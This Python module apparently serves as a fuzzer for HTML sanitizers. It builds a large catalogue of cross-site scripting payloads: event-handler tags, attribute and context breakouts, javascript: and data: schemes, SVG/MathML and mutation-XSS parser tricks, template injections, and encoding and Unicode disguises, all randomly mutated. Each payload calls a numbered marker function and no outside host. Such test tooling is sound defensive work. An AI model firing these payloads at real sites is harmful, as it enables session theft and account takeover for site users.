"""Words that try to run: shapes of our own, by where they hope to land, and mutations of them without end.

Each shape calls ``__fired(N)`` with its own number, so that what ran is known, and what was shown is counted.
"""

import random
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

CALL = "__fired(§)"

EVENTS = {
    "img src=x": "error",
    "img src=data:,": "error loadend",
    "image src=x": "error",
    "svg": "load",
    "body": "load pageshow focus resize hashchange",
    "iframe src=about:blank": "load",
    "iframe srcdoc=x": "load",
    "object data=x": "error",
    "embed src=x": "error load",
    "video src=x": "error loadstart",
    "audio src=x": "error loadstart",
    "source src=x": "error",
    "video><source src=x": "error",
    "link rel=stylesheet href=x": "error load",
    "script src=x": "error",
    "style": "load error",
    "input autofocus": "focus focusin",
    "textarea autofocus": "focus",
    "select autofocus": "focus",
    "button autofocus": "focus",
    "a href=# autofocus": "focus",
    "details open": "toggle",
    "dialog open": "focusin",
    "marquee": "start bounce finish",
    "div style=animation-name:x": "animationstart animationend",
    "div style=transition:1s": "transitionend transitionrun",
    "p tabindex=1 autofocus": "focus",
    "svg><animate attributeName=x dur=1ms": "begin end repeat",
    "svg><set attributeName=x": "begin",
    "math><mtext><img src=x": "error",
    "x contenteditable autofocus": "focus",
    "meta http-equiv=refresh content=0": "load",
    "frameset": "load",
    "isindex type=image src=x": "error",
    "template><img src=x": "error",
    "picture><img src=x": "error",
    "portal src=x": "load",
    "search popover autofocus": "beforetoggle",
    "div hx-trigger=load": "click htmx:load htmx:afterSwap",
}
ENDS = (
    '">',
    "'>",
    "`>",
    ">",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "*/",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</select>",
    "</xmp>",
    "</noembed>",
    "</iframe>",
    "</pre>",
    "</time>",
    "</bdi>",
    "</option></select>",
    "</details>",
    "\" x='>",
    "' x=\">",
    '\\">',
    "%22>",
    "&quot;>",
    "\n\n>",
    "<!--",
    "<![CDATA[",
)
ATTRIBUTES = (
    '" onfocus={c} autofocus x="',
    "' onfocus={c} autofocus x='",
    '" onmouseover="{c}',
    "' onmouseenter='{c}",
    '"/onload={c}//',
    '" style="x:expression({c})',
    '" formaction="javascript:{c}',
    '" srcdoc="<script>{c}</script>',
    '" hx-on:load="{c}',
    '" data-hx-on="{c}',
    '" hx-vals="js:{{x:{c}}}',
    '" accesskey=x onclick={c} x="',
    '" onpointerrawupdate={c} x="',
    '" oncontentvisibilityautostatechange={c} style=content-visibility:auto x="',
    "x onerror={c} src=y ",
    '"onerror={c} src="',
)
SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "\tjavascript:{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "\x01javascript:{c}",
    "javascript&colon;{c}",
    "javascript&#58;{c}",
    "javascript%3A{c}",
    "javascript://x%0a{c}",
    "javascript:/*x*/{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{c}",
    "data:image/svg+xml,<svg onload={c}>",
    "view-source:javascript:{c}",
    "blob:{c}",
    "feed:javascript:{c}",
    "\u3000javascript:{c}",
    "[x](javascript:{c})",
    "![x](javascript:{c})",
    "<javascript:{c}>",
    "[x]: javascript:{c}",
    "[x](data:text/html,{c})",
    'https://x.example/"onmouseover={c}//',
    "//x.example/'onmouseover={c}//",
    '<https://x"onclick={c}>',
)
FOREIGN = (
    "<svg><script>{c}</script></svg>",
    "<svg><script href=data:,{c} />",
    "<svg><a xlink:href=javascript:{c}><text>x</text></a>",
    "<svg><use href=data:image/svg+xml,{c}#x />",
    "<svg><foreignObject><img src=x onerror={c}>",
    "<svg><style><img src=x onerror={c}>",
    "<svg><title><img src=x onerror={c}>",
    "<svg><desc><img src=x onerror={c}>",
    "<svg><handler xml:id=x>{c}</handler>",
    "<svg><image href=x onerror={c}>",
    "<svg><animate href=#x attributeName=href values=javascript:{c} />",
    "<math><maction actiontype=statusline xlink:href=javascript:{c}>x",
    "<math href=javascript:{c}>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={c}>",
    "<math><mglyph><style><img src=x onerror={c}>",
    "<math><mi><table><mglyph><svg><mtext><img src=x onerror={c}>",
    "<math><mtext></p><img src=x onerror={c}>",
)
MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    '<style><a title="</style><img src=x onerror={c}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    '<svg></p><style><a id="</style><img src=x onerror={c}>">',
    "<table><td><svg><img src=x onerror={c}></table>",
    "<select><style><img src=x onerror={c}></select>",
    "<p><svg><p><style><img src=x onerror={c}>",
    '<xmp><p title="</xmp><img src=x onerror={c}>">',
    '<textarea><img title="</textarea><img src=x onerror={c}>">',
    "<!--><img src=x onerror={c}>-->",
    "<!---!><img src=x onerror={c}>",
    "<![CDATA[><img src=x onerror={c}>]]>",
    "<?x ><img src=x onerror={c}>?>",
    "<iframe><!--</iframe><img src=x onerror={c}>",
    "<a><table><a><img src=x onerror={c}>",
    "<b><p></b><img src=x onerror={c}>",
    "<template><s><template><s><img src=x onerror={c}></s>",
    "</p><plaintext><img src=x onerror={c}>",
    "<br/><//img src=x onerror={c}>",
)
SCRIPTS = (
    "</script><script>{c}</script>",
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script\n>{c}</script\n>",
    "<script/x>{c}</script>",
    "<script>{c}<!--",
    "<!--<script>{c}",
    "<script type=module>{c}</script>",
    "<script src=data:,{c}></script>",
    "<<script>{c}//<</script>",
    '";{c};//',
    "';{c};//",
    "`;{c};//",
    '\\";{c};//',
    "${{{c}}}",
    "`${{{c}}}`",
    "\u2028{c}//",
    "\u2029{c}//",
    "*/{c}/*",
    "-->\n{c}",
    '{{"x":"</script><script>{c}</script>"}}',
    '"}}</script><script>{c}</script>',
    "\\u003cscript>{c}</script>",
    "<script>{c}</script",
)
TEMPLATES = (
    "{{{{{c}}}}}",
    "{{% debug %}}{c}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%={c}%>",
    "{{{{=<% %>=}}}}{c}",
    "{{{{x|safe}}}}<img src=x onerror={c}>",
    "{{#x}}{c}{{/x}}",
    "@({c})",
    "[[{c}]]",
    "%({c})s",
    "{{0.__class__}}{c}",
    "*{{{c}}}",
    "~{{{c}}}",
)
BODIES = (
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<script>{c}</script>",
    "<details open ontoggle={c}>",
    "<iframe onload={c}>",
)


def disguised(words: str) -> Iterator[str]:
    """The same words as they look after somebody else's writing down."""
    yield escape(words)
    yield quote(words)
    yield quote(quote(words))
    yield "".join(f"&#{ord(sign)};" for sign in words)
    yield "".join(f"&#x{ord(sign):x}" for sign in words)
    yield "".join(f"\\u{ord(sign):04x}" for sign in words)
    yield words.replace("<", "\uff1c").replace(">", "\uff1e")
    yield words.replace("<", "&lt").replace(">", "&gt")
    yield words.replace("<", "+ADw-").replace(">", "+AD4-")
    yield words.replace("<", "%u003c").replace(">", "%u003e")
    yield f"\u202e{words}\u202c"
    yield f"\u2066{words}"
    yield words.replace("s", "\u017f").replace("k", "\u212a")
    yield words.replace("<", "<\u200b")
    yield words.replace("o", "o\u0301")
    yield words.encode("utf-16-be").decode("latin-1").replace("\x00", "")
    yield f"\ufeff{words}"
    yield "\u0600\u061c" + words


def shapes() -> list[str]:
    """Every shape once, each with CALL where it calls."""
    found = [f"<{tag} on{event}={{c}}>" for tag, events in EVENTS.items() for event in events.split()]
    found += [end + BODIES[at % len(BODIES)] for at, end in enumerate(ENDS)]
    found += [*ATTRIBUTES, *SCHEMES, *FOREIGN, *MUTATING, *SCRIPTS, *TEMPLATES]
    made = [shape.replace("{c}", CALL).replace("{{", "{").replace("}}", "}") for shape in found]
    for body in BODIES[:3]:
        made += disguised(body.replace("{c}", CALL))
    return list(dict.fromkeys(made))


def numbered(shape: str, number: int) -> str:
    return shape.replace("§", str(number)) if "§" in shape else f"{shape} {CALL.replace('§', str(number))}"


def mutated(chance: random.Random, all_shapes: list[str]) -> str:
    """A shape, changed a few times as parsers are tried: cut, doubled, nested, joined, spaced, in other cases."""
    words = chance.choice(all_shapes)
    for _ in range(chance.randint(1, 3)):
        words = CHANGES[chance.randrange(len(CHANGES))](words, chance, all_shapes)
    return words[:1_500]


def _spaced(words: str, chance: random.Random, _shapes: list[str]) -> str:
    return words.replace(" ", chance.choice(["/", "\t", "\n", "\x0c", "\r", "  ", "/x/", " \x0b"]))


def _cased(words: str, chance: random.Random, _shapes: list[str]) -> str:
    parts = words.split(CALL)
    return CALL.join("".join(chance.choice([sign.upper(), sign.lower()]) for sign in part) for part in parts)


def _joined(words: str, chance: random.Random, all_shapes: list[str]) -> str:
    return words + chance.choice(all_shapes)


def _nested(words: str, chance: random.Random, all_shapes: list[str]) -> str:
    outer = chance.choice(all_shapes)
    at = chance.randrange(len(outer) + 1)
    return outer[:at] + words + outer[at:]


def _cut(words: str, chance: random.Random, _shapes: list[str]) -> str:
    at = chance.randrange(max(1, len(words)))
    return words[:at] + words[at + 1 :] if chance.random() < 0.5 else words[at:] + words[:at]


def _ended(words: str, chance: random.Random, _shapes: list[str]) -> str:
    return chance.choice(ENDS) * chance.randint(1, 3) + words


def _sown(words: str, chance: random.Random, _shapes: list[str]) -> str:
    at = chance.randrange(len(words) + 1)
    sign = chance.choice(["\u200b", "\u202e", "\ufffd", "\u00ad", "\x7f", "\\", "&", "&#0;", "\u2028", "<", '"', "'"])
    return words[:at] + sign + words[at:]


def _disguised(words: str, chance: random.Random, _shapes: list[str]) -> str:
    return chance.choice(list(disguised(words)))


CHANGES = (_spaced, _cased, _joined, _nested, _cut, _ended, _sown, _disguised)
